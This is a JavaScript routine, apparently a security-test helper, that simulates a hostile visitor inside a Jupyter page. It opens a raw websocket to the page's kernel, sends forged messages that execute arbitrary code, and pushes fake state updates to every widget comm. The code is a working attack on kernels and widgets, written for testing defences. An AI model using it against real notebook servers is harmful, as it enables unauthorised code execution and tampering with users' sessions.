// A raw Jupyter kernel websocket client run inside the page, as a hostile visitor would: it
// opens its own connection to the page's kernel and sends hand-made messages.
async ([action, payload]) => {
  const config = JSON.parse(document.getElementById("jupyter-config-data").textContent);
  const kernelId = config.kernelId;
  const url = `ws://${location.host}/api/kernels/${kernelId}/channels`;
  const ws = new WebSocket(url);
  const replies = [];
  await new Promise((resolve, reject) => { ws.onopen = resolve; ws.onerror = reject; });
  ws.onmessage = (event) => { if (typeof event.data === "string") replies.push(JSON.parse(event.data)); };
  const send = (msgType, content, channel = "shell") => {
    const id = `${msgType}-${Math.random()}`;
    ws.send(JSON.stringify({
      header: { msg_id: id, msg_type: msgType, username: "visitor", session: "forged",
                date: new Date().toISOString(), version: "5.3" },
      parent_header: {}, metadata: {}, content, channel, buffers: [],
    }));
    return id;
  };
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
  const replyTo = async (id, ms = 5000) => {
    for (let t = 0; t < ms; t += 100) {
      const found = replies.find((m) => m.parent_header && m.parent_header.msg_id === id
                                       && m.channel === "shell");
      if (found) return found;
      await wait(100);
    }
    return null;
  };
  let result = null;
  if (action === "execute") {
    const id = send("execute_request", { code: payload, silent: false, store_history: false,
                                         user_expressions: {}, allow_stdin: false });
    result = { kernelId, reply: await replyTo(id, 4000) };
  } else if (action === "forge-index") {
    const info = await replyTo(send("comm_info_request", { target_name: "jupyter.widget" }));
    const comms = Object.keys(info.content.comms);
    for (const commId of comms) {
      send("comm_msg", { comm_id: commId, data: { method: "update", state: payload,
                                                   buffer_paths: [] } });
    }
    await wait(2000);
    result = { kernelId, forged: comms.length };
  }
  ws.close();
  return result;
}
